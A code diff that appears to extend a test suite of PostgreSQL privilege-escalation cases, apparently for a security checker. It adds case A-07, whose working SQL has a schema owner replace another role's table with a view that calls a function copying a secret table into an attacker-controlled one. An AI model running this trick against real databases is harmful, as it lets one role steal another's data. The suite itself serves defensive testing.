@@ -43,7 +43,7 @@ const UP_TO_15: readonly Major[] = [14, 15];
 const SECRET = `
   create schema vault authorization boss;
   set role boss; create table vault.secret (word text); insert into vault.secret values ('sesame'); reset role;
-  create schema loot authorization app; grant usage on schema loot to boss;
+  create schema loot; grant usage, create on schema loot to app; grant usage on schema loot to boss;
   create table loot.taken (word text); grant insert on loot.taken to boss;`;
 
 const TAKE = "insert into loot.taken select word from vault.secret";
@@ -208,6 +208,23 @@ const ESCALATIONS: readonly Escalation[] = [
       await taken(actors);
     },
     undo: "drop function loot.mine() cascade",
+  },
+  {
+    title: "[A-07] schema-owner: the owner of a schema replaces a table of somebody else by a view",
+    majors: ALL,
+    setup: `${SECRET}
+      create schema shop authorization app; grant usage on schema shop to boss;
+      create table shop.orders (id int); alter table shop.orders owner to boss`,
+    rules: ["schema-owner", "schema-owner"],
+    target: "boss",
+    exploit: async (actors) => {
+      await actors.asApp(`drop table shop.orders;
+        create function shop.take() returns int language plpgsql as 'begin ${TAKE}; return 1; end';
+        create view shop.orders as select shop.take() as id; grant select on shop.orders to boss`);
+      await actors.asBoss("select * from shop.orders");
+      await taken(actors);
+    },
+    undo: "drop view shop.orders; drop function shop.take(); create table shop.orders (id int); alter table shop.orders owner to boss",
   },
   {
     title: "[PE-09] CREATE on a schema of the search_path catches names",
